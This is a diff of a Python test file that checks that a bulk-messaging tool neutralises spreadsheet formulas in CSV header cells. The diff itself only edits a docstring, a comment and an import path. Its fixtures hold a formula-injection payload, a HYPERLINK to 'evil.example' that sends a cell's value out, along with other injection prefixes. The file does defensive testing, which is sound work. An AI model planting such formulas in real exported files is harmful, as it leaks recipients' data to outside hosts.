@@ -1,4 +1,4 @@
-"""Findings 11 and 13 of issue 9: header cells are neutralised in CSV reports and failures
+"""Header cells are neutralised in CSV reports and failures
 files like data cells (and read back as they were); a secret given as an option warns."""
 
 from __future__ import annotations
@@ -14,7 +14,7 @@ from click.testing import CliRunner
 from bulk.cli import main
 from bulk.inputs import load_rows, neutralise_frame
 from bulk.inputs._csvsafe import restore_header
-from tests.conftest import ThreadedSandbox, write_csv
+from tests._helpers import ThreadedSandbox, write_csv
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"click")'
 HEADER = f'number,campaign,"{FORMULA.replace(chr(34), chr(34) * 2)}",@SUM(A1),-x,plain'
@@ -73,7 +73,7 @@ def test_a_header_is_restored_only_where_bulk_added_the_apostrophe() -> None:
     assert frame.columns == ["''=x", "'=x"]
 
 
-# --- finding 13: a secret given as an option is visible in ps --------------------------------
+# --- a secret given as an option is visible in ps ----------------------------------------------
 
 
 @pytest.mark.parametrize("provider", ["plivo", "agentmessage"])
